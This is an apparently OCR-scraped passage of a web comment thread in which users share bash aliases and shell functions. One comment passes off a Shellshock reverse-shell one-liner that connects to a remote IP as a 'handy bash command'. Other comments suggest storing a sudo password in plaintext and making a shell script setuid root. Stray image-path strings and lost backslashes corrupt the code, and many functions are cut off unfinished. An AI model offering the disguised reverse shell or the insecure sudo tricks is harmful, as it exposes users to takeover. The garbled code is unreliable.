    alias cd=’cdir’
    function cdir ()
    cd “$*”

  • shanker Feb 12, 2014 @ 10:30

    function mkcd(){
    mkdir -p $1
    cd $1

  • Brian C Feb 13, 2014 @ 17:12

    Lots of great suggestions here.

    I use so many aliases and functions that I needed one to search them.function ga() { alias | grep -i $*; functions | grep -i $*}

    This is not so nice with multiple line functions and could be improved with a clever regex.

  • Jules J Feb 20, 2014 @ 14:28
    # Find a file from the current directory
    alias ff='find . -name '
    # grep the output of commands
    alias envg='env | grep -i'
    alias psg='ps -eaf | head -1; ps -eaf | grep -v " grep " | grep -i'
    alias aliasg='alias | grep -i'
    alias hg='history | grep -i'
    # cd to the directory a symbolically linked file is in.
    function cdl {if [ "x$1" = "x" ] ; then
            echo "Missing Arg"
        elif [ -L "$1" ] ; then
            link=`/bin/ls -l $1 | tr -s ' ' | cut -d' ' -f10`
            if [ "x$link" = "x" ] ; then
                echo "Failed to get link"
            dirName_=`dirname $link`
            cd "$dirName_"
            echo "$1 is not a symbolic link"
    # cd to the dir that a file is found in.
    function cdff {
        filename=`find . -name $1 | grep -iv "Permission Denied" | head -1`
        if [ "xx${filename}xx" != "xxxx" ] ; then
            if [ -d $dirname ] ; then
                cd $dirname• Rich Feb 28, 2014 @ 7:21
    export EDITOR=vim
    export PAGER=less
    set -o vi
    eval `resize`
    # awk tab delim  (escape '' awk to disable aliased awk)
    tawk='awk -F "t" '
    # case insensitive grep
    alias ig="grep --color -i "
    # ls sort by time
    alias lt="ls -ltr "
    # ls sort by byte size
    alias lS='ls -Slr'
    # ps by process grep  (ie. psg chrome)
    alias psg='ps -ef|grep --color '
    # ps by user
    alias psu='ps auxwwf '
    # ps by user with grep (ie. psugbudman)
    alias psug='psu|grep --color '
    # find broken symlinks
    alias brokenlinks='find . -xtype l -printf "%p -> %ln"'
    # which and less a script (ie. ww backup.ksh)
    function ww { if [[ ! -z $1 ]];then _f=$(which $1);echo $_f;less $_f;fi }
    # use your own vim cfg (useful when logging in as other id's)
    alias vim="vim -u /home/budman/.vimrc"
  • Rich Feb 28, 2014 @ 7:21

    For those of you who use Autosys:

    # alias to read log files based oncurrent run date (great for batch autosys jobs)
    # ie.  slog mars-reconcile-job-c
    export RUN_DIR=~/process/dates
    function getRunDate {
        print -n $(awk -F'"' '/^run_date=/{print $2}' ~/etc/run_profile)
    function getLogFile {
        print -n $RUN_DIR/$(getRunDate)/log/$1.log
    function showLogFile {
        export LOGFILE=$(getLogFile $1);
        print "nLog File: $LOGFILEn";
        less -z-4 $LOGFILE;
    alias slog="showLogFile "
    # Autosys alaises
    alias av="autorep -w -J "
    alias av0="autorep -w -L0 -J "
    alias avq="autorep -w -q -J "
    alias aq0="autorep -w -L0 -q -J "
    alias ava="autorep -w -D PRD_AUTOSYS_A -J "
    alias avc="autorep -w -D PRD_AUTOSYS_C -J "
    alias avt="autorep -w -D PRD_AUTOSYS_T -J "
    alias am="autorep -w -M "
    alias ad="autorep -w -d -J "
    alias jd="job_depends -w -c -J "
    alias jdd="job_depends -w -d -J "
    alias jrh="jobrunhist -J "alias fsjob="sendevent -P 1 -E FORCE_STARTJOB -J "
    alias startjob="sendevent -P 1 -E FORCE_STARTJOB -J "
    alias runjob="sendevent -P 1 -E STARTJOB -J "
    alias killjob="sendevent -P 1 -E KILLJOB -J "
    alias termjob="sendevent -P 1 -E KILLJOB -K 15 -J "
    alias onhold="sendevent -P 1 -E JOB_ON_HOLD -J "
    alias onice="sendevent -P 1 -E JOB_ON_ICE -J "
    alias offhold="sendevent -P 1 -E JOB_OFF_HOLD -J "
    alias office="sendevent -P 1 -E JOB_OFF_ICE -J "
    alias setsuccess="sendevent -P 1 -E CHANGE_STATUS -s SUCCESS -J "
    alias inactive="sendevent -P 1 -E CHANGE_STATUS -s INACTIVE -J "
    alias setterm="sendevent -P 1 -E CHANGE_STATUS -s TERMINATED -J "
    alias failed="njilgrep -npi -s FA $AUTOSYS_JOB_PREFIX"
    alias running="njilgrep -npi -s RU $AUTOSYS_JOB_PREFIX"
    alias iced="njilgrep -npi -s OI $AUTOSYS_JOB_PREFIX"
    alias held="njilgrep -npi -s OH $AUTOSYS_JOB_PREFIX"
  • mithereal Mar 23, 2014 @ 22:26

    heres a few i use

    alias killme='slay $USER'
    function gi(){
    npm install --save-dev grunt-"$@"
    function gci(){
    npm install --save-dev grunt-contrib-"$@"
  • sjas Apr 27, 2014 @ 14:20
    alias v='vim'
    alias vi='vim'
    alias e='emacs'
    alias t='tail -n200'
    alias h='head -n20'
    alias g='git'
    alias p='pushd'
    alias o='popd'
    alias d='dirs -v'
    alias rmf='rm -rf'
    # ls working colorful on all OS'es
    if [[ `uname` == Linux ]]; then
        export LS1='--color=always'
    elif [[ `uname` == Darwin* ]]; then
        export LS1='-G'
        export LS1='--color=auto'
    export LS2='-hF --time-style=long-iso'
    alias l='ls $LS1 $LS2 -AB'
  • jfb May 24, 2014 @ 14:07

    Here is one to do a update and upgrade with no user input. Just insert your sudopassword for yourpassword

    alias udug=’echo yourpassword | sudo -S apt-get update && sudo apt-get upgrade -y’

    • Henrik Kjelsberg May 27, 2014 @ 17:59

      Having your password lying around in plain text is never a good idea.

      • jfb May 28, 2014 @ 19:28

        I am the only one who uses this computer. My daughter, granddaughter, daughter’s
        boyfriend and my four dogs all use Windoz. They have no idea what a alias or a terminal is.

        • systemBuilder Jan 6, 2017 @ 2:26

          It is far better to put the commands into a setuid shell script, then you don’t have to EVER put your password into plaintext anywhere on UNIX / Linux:

          echo "sudo -S apt-get update && sudo apt-get upgrade -y" > /tmp/udug ; sudo mv /tmp/udug /usr/bin/udug
          sudo chmod 755 /usr/bin/udug
          sudo chmod u+s /usr/bin/udug• AndyB Jul 11, 2014 @ 2:46

      If you want to run apt-get without having to supply a sudo password, just edit the sudo config file to allow that. (Replace “jfb” in this example with your own login).

      jfb ALL=(root) NOPASSWD: /usr/bin/apt-get

      Hint: edit the config file with “sudo visudo”, not “sudo vim /etc/sudoers”. Visudo will check that you haven’t totally screwed up the config file before writing it out.

  • Xdept Jul 2, 2014 @ 2:14

    Hey, Just wanted to add my 5 cents.

    I use this to make me think before rebooting/shutting down hosts;

    alias reboot=’echo “Are you sure you want to reboot host `hostname` [y/N]?” && read reboot_answer && if [ “$reboot_answer” == y ]; then /sbin/reboot; fi’

    alias shutdown=’echo “Are you sure you want to shutdown host `hostname` [y/N]?” && read shutdown_answer && if [ “$shutdown_answer” == y ]; then /sbin/shutdown -h now; fi’

  • Niall Jul 23, 2014 @ 0:09

    Thank you. Great list.• David Aug 22, 2014 @ 0:41

    #2: Control cd command behavior

    ## get rid of command not found ##
    alias cd..=’cd ..’

    ## a quick way to get out of current directory ##
    alias ..=’cd ..’
    alias …=’cd ../../../’
    alias ….=’cd ../../../../’
    alias …..=’cd ../../../../’ <– typo, I think you meant to add an extra level of ../ to this!
    alias .4='cd ../../../../'
    alias .5='cd ../../../../..'

  • Lyo Mi Sep 26, 2014 @ 17:50There’s another handy bash command I’ve come by recently in the past days.

    () { :;}; /bin/bash -c '/bin/bash -i >& /dev/tcp/123.456.789.012/3333 0>&1
    • foo Oct 22, 2014 @ 0:23

      shellshock douchebaggery

  • James Nov 11, 2014 @ 1:58

    Here are a couple that I have to make installing software on Ubuntu easier:

    alias sdfind='~/bin/sdfind.sh'
    alias sdinst='sudo apt-get install'
  • EricC Nov 15, 2014 @ 22:38

    Great list and comments. A minor nit, the nowtime alias has a typo that makes it not work. It needs a closing double quote.

  • hiatus Nov 20, 2014 @ 0:19

    # Find all IP addresses connected to your network

    alias netcheck='nmap -sP $(ip -o addr show | grep inet  | grep eth | cut -d  -f 7)'
  • hiatus Nov 20, 2014 @ 0:22

    # See real time stamp when running dmesg

    alias dmesg='dmesg|perl -ne "BEGIN{$a= time()- qx:cat /proc/uptime:};s/[s*(d+).d+]/localtime($1 + $a)/e; print $_;" | sed -e "s|(^.*"`date +%Y`" )(.*)|x1b[0;34m1x1b[0m - 2|g"'
  • faegt Nov 20, 2014 @ 11:05

    You know, instead of doing something silly like aliasing clear to c, you can just do ^L (control + L) instead…

  • hiatus Nov 20, 2014 @ 21:11

    # Nice readable way to see memory usagealias minfo='egrep "Mem|Cache|Swap" /proc/meminfo'
  • hiatus Nov 20, 2014 @ 23:57

    # Need to figure out which drive your usb is assigned? Functions work the same way as an alias. Simply copy the line into your .profile/.bashrc file. Then type: myusb

    myusb () { usb_array=();while read -r -d $'n'; do usb_array+=("$REPLY"); done < <(find /dev/disk/by-path/ -type l -iname *usb*scsi* -not -iname *usb*scsi*part* -print0 | xargs -0 -iD readlink -f D | cut -c 8) && for usb in "${usb_array[@]}"; do echo "USB drive assigned to sd$usb"; done; }
  • koosha Dec 7, 2014 @ 4:00

    And if you have zsh, you may want to give oh-my-zsh a try. It has a repo full of aliases.

    Even if you do not have zsh you may still want to check it out as it has really nice aliases which are compatible with bash.

  • Andreas Dunker Jan 13, 2015 @ 9:15

    It’s a little bit dangerous to re-alias existing commands. Once I had trouble finding out why my shell script did not work. It was the coloured output of grep. So I changed my alias:

    alias gr=”grep -E -i –color”

    And remember the man page:
    “For almost every purpose, aliases are superseded by shell functions.”

    • ychaouche Dec 26, 2016 @ 14:58

      Got me a couple times too, wasted an awful amount of time on that.

    • systemBuilder Jan 6, 2017 @ 2:17

      I think if you use –color=auto, then the colors will only be applied whenthe output is a tty. However, I do agree that it’s a very bad idea to rename commands with aliases; it is much better to create your own command names such as ‘cgrep’ , ‘cfgrep’, ‘cegrep’, etc.

  • proz Jan 27, 2015 @ 17:55

    Is passing all commands via sudo safe?

  • Oliver Feb 13, 2015 @ 11:31Sometimes when working with text files this is quite helpful:

    alias top10=”sort|uniq -c|sort -n -r|head -n 10″

  • DT Apr 27, 2015 @ 13:50

    # list usernames
    alias lu=”awk -F: ‘{ print $1}’ /etc/passwd”

  • some guy Aug 15, 2015 @ 15:15
    # better ls
    alias ls='ls -lAi --group-directories-first --color='always''
    # make basic commands interactive and verbose
    alias cp='cp -iv'      #interactive
    alias rm='rm -ri'      # interactive
    alias mv='mv -iv'       # interactive, verbose
    alias grep='grep -i --color='always''  # ignore case
    # starts nano with line number enabled
    alias nano='nano -c'
    # clear screen
    alias cl='clear'
    # shows the path variable
    alias path='echo -e ${PATH//:/\n}'
    # Filesystem diskspace usage
    alias dus='df -h'
    # quick ssh to raspberry pi
    alias raspi='ssh root@'
    # perform 'ls' after 'rm' if successful.
    rmls() {rm "$*"
      if [ "$RESULT" -eq 0 ]; then
    alias rm='rmls'
    # reloads changes
    alias rfc='source ~/.bashrc; cl'
